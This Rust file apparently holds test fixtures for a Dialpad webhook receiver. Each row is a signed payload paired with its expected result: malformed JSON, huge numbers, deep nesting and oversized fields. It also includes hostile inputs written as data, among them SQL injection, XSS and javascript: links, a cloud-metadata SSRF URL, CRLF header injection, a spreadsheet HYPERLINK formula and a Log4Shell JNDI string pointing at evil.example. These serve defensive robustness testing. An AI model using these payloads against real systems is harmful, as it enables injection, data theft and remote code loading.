//! Rows about what was signed: every one is answered 200, because the company signed it and Dialpad sends nothing twice.

use super::{Expect, Row};

const KEPT: Expect = Expect::Kept;

/// Payloads that are signed before they are posted.
pub(super) fn rows() -> Vec<Row> {
    let mut rows = no_events();
    rows.extend(call_ids());
    rows.extend(claims());
    rows.extend(texts_and_links());
    rows.extend(large());
    rows.extend(other_subscriptions());
    rows
}

fn no_events() -> Vec<Row> {
    vec![
        Row::new("WH-013 nothing", "", KEPT),
        Row::new("WH-070 no JSON", "hello", KEPT),
        Row::new("WH-070 a list", "[]", KEPT),
        Row::new("WH-070 a text", "\"call\"", KEPT),
        Row::new("WH-070 two objects", r#"{"call_id":70}{"call_id":70}"#, KEPT),
        Row::new("WH-070 cut off", r#"{"call_id":70,"state":"han"#, KEPT),
        Row::new(
            "WH-072 nested 200 deep",
            format!(r#"{{"call_id":72,"x":{}{}}}"#, "[".repeat(200), "]".repeat(200)),
            KEPT,
        ),
        Row::new("WH-072 nested 100,000 deep", "[".repeat(100_000), KEPT),
        Row::new("WH-074 two call ids", r#"{"call_id":74,"call_id":75}"#, KEPT),
        Row::new("WH-077 half a surrogate pair", r#"{"call_id":77,"contact":{"name":"\ud800"}}"#, KEPT),
        Row::new("WH-078 no UTF-8", b"{\"call_id\":78,\"contact\":{\"name\":\"\xff\xfe\"}}".to_vec(), KEPT),
        Row::new("a byte order mark", "\u{feff}{\"call_id\":79}", KEPT),
        Row::new("two calls in one event", r#"{"a":{"call_id":71},"b":{"call_id":72}}"#, KEPT),
    ]
}

fn call_ids() -> Vec<Row> {
    let kept = |name, id: &str| Row::new(name, format!(r#"{{"call_id":{id},"state":"hangup"}}"#), KEPT);
    vec![
        kept("WH-088 2^63", "9223372036854775808"),
        kept("WH-088 2^64", "18446744073709551616"),
        kept("WH-088 1e30", "1e30"),
        kept("WH-088 -1", "-1"),
        kept("WH-088 0", "0"),
        kept("WH-088 1.5", "1.5"),
        kept("WH-088 a text with a fraction", "\"1.5\""),
        kept("WH-088 a text with a sign", "\"+7\""),
        kept("WH-088 other digits", "\"٧\""),
        kept("WH-090 null", "null"),
        kept("WH-090 true", "true"),
        kept("WH-090 an object", "{}"),
        kept("WH-090 a list", "[7]"),
        kept("WH-090 an empty text", "\"\""),
        Row::new("WH-090 missing", r#"{"state":"hangup"}"#, KEPT),
        Row::new(
            "WH-088 2^63 - 1",
            r#"{"call_id":9223372036854775807}"#,
            Expect::Call("9223372036854775807"),
        ),
        Row::new("WH-089 a text", r#"{"call_id":"89"}"#, Expect::Call("89")),
        Row::new("WH-089 a text with zeros in front", r#"{"call_id":"00089"}"#, Expect::Call("89")),
        Row::new("the same id twice", r#"{"call_id":891,"call_id":"891"}"#, Expect::Call("891")),
    ]
}

fn claims() -> Vec<Row> {
    let call =
        |name, members: &str| Row::new(name, format!(r#"{{"call_id":60,{members}}}"#), Expect::Call("60"));
    vec![
        call(
            "WH-064 expired, not yet valid, issued tomorrow",
            r#""exp":1,"nbf":4000000000,"iat":4000000000"#,
        ),
        call("WH-065 exp a word", r#""exp":"never""#),
        call("WH-065 exp 2^64", r#""exp":18446744073709551616"#),
        call("WH-065 exp -1", r#""exp":-1"#),
        Row::new("WH-065 exp 1e400", r#"{"call_id":60,"exp":1e400}"#, KEPT),
        call("WH-066 audience, issuer, subject", r#""aud":["x"],"iss":{"y":1},"sub":null"#),
        call(
            "WH-092 dates of all kinds",
            r#""date_started":0,"date_rang":-1,"date_ended":1e18,"date_connected":"abc""#,
        ),
        call("WH-100 a state that is a number", r#""state":5"#),
        call("WH-100 a state that is null", r#""state":null"#),
        call("WH-100 a state that is a list", r#""state":["hangup"]"#),
        call(
            "WH-102 members of tomorrow",
            (0..300).map(|n| format!(r#""new_{n}":{{"n":{n}}},"#)).collect::<String>().trim_end_matches(','),
        ),
        call(
            "WH-104 names that mean something to browsers",
            r#""__proto__":{"x":1},"constructor":1,"toString":null"#,
        ),
        call("WH-105 members that mean something to us", r#""tenant_id":"x","is_admin":true,"user_id":1"#),
        call(
            "members of other types",
            r#""target":"x","contact":[1],"labels":{"a":[]},"was_recorded":"false","duration":[]"#,
        ),
    ]
}

fn texts_and_links() -> Vec<Row> {
    let link = |name, link: &str| {
        Row::new(name, format!(r#"{{"call_id":96,"voicemail_link":"{link}"}}"#), Expect::Call("96"))
    };
    vec![
        link("WH-096 javascript:", "javascript:alert(1)"),
        link("WH-096 data:", "data:text/html,<script>alert(1)</script>"),
        link("WH-096 no scheme", "//evil.example/x"),
        link("WH-097 a private address", "http://169.254.169.254/latest/meta-data"),
        link("WH-098 another host", "https://evil.example/voicemail"),
        Row::new(
            "WH-076 NUL",
            r#"{"call_id":76,"contact":{"name":"a\u0000b"},"state":"hang\u0000up"}"#,
            Expect::Call("76"),
        ),
        Row::new(
            "WH-086 SQL in every field",
            r#"{"call_id":86,"state":"'; drop table calls;--","group_id":"'; drop table calls;--",
            "external_number":"'; drop table calls;--","labels":["'; drop table calls;--"],"direction":"'; drop table calls;--",
            "target":{"id":"'; drop table calls;--","type":"'; drop table calls;--","name":"'; drop table calls;--"}}"#,
            Expect::Call("86"),
        ),
    ]
}

fn large() -> Vec<Row> {
    // What fits in 1 MiB of token.
    let keys: String = (0..80_000).map(|n| format!("\"{n:x}\":0,")).collect();
    let text = "x".repeat(700_000);
    vec![
        Row::new("WH-073 80,000 members", format!("{{{keys}\"call_id\":73}}"), Expect::Call("73")),
        Row::new(
            "a transcript of 700 KB",
            format!(r#"{{"call_id":73,"transcription_text":"{text}"}}"#),
            Expect::Call("73"),
        ),
        Row::new(
            "a name of 700 KB",
            format!(r#"{{"call_id":73,"contact":{{"name":"{text}"}}}}"#),
            Expect::Call("73"),
        ),
    ]
}

/// The same URL can be given to Dialpad's other subscriptions.
fn other_subscriptions() -> Vec<Row> {
    vec![
        Row::new(
            "SMS",
            r#"{"id":1,"from_number":"+12065550100","to_number":["+12065550101"],"text":"hi"}"#,
            KEPT,
        ),
        Row::new("contact", r#"{"event":"Created","contact":{"id":"c1","names":["x"]}}"#, KEPT),
        Row::new("agent status", r#"{"on_duty_status":"Available","target":{"id":1}}"#, KEPT),
        Row::new(
            "change log",
            r#"{"action":"updated","changed_by":{"id":1},"target":{"type":"User"}}"#,
            KEPT,
        ),
    ]
}

/// Names as JSON texts, and as people must see them; with the row.
pub(super) fn names() -> Vec<(&'static str, &'static str, &'static str)> {
    vec![
        ("WH-080", r#""Zo\u00eb""#, "Zoë"),
        ("WH-080", r#""Zoe\u0308""#, "Zoe\u{308}"),
        ("WH-076", r#""a\u0000b""#, "a\u{fffd}b"),
        ("WH-081", r#""<script>alert(1)</script>""#, "<script>alert(1)</script>"),
        ("WH-081", r#""\"><svg onload=alert(1)>""#, "\"><svg onload=alert(1)>"),
        ("WH-082", r#""=HYPERLINK(\"http://evil.example\")""#, "=HYPERLINK(\"http://evil.example\")"),
        ("WH-084", r#""\u001b]0;owned\u0007""#, "\u{1b}]0;owned\u{7}"),
        (
            "WH-085",
            r#""x\r\nSet-Cookie: a=b\r\nBcc: c@example.com""#,
            "x\r\nSet-Cookie: a=b\r\nBcc: c@example.com",
        ),
        ("WH-086", r#""'; drop table calls;--""#, "'; drop table calls;--"),
        ("a template", r#""${jndi:ldap://evil.example/a}""#, "${jndi:ldap://evil.example/a}"),
        ("turned letters", r#""\u202eecilA""#, "\u{202e}ecilA"),
        ("a family", r#""👩‍👩‍👧‍👦""#, "👩‍👩‍👧‍👦"),
    ]
}
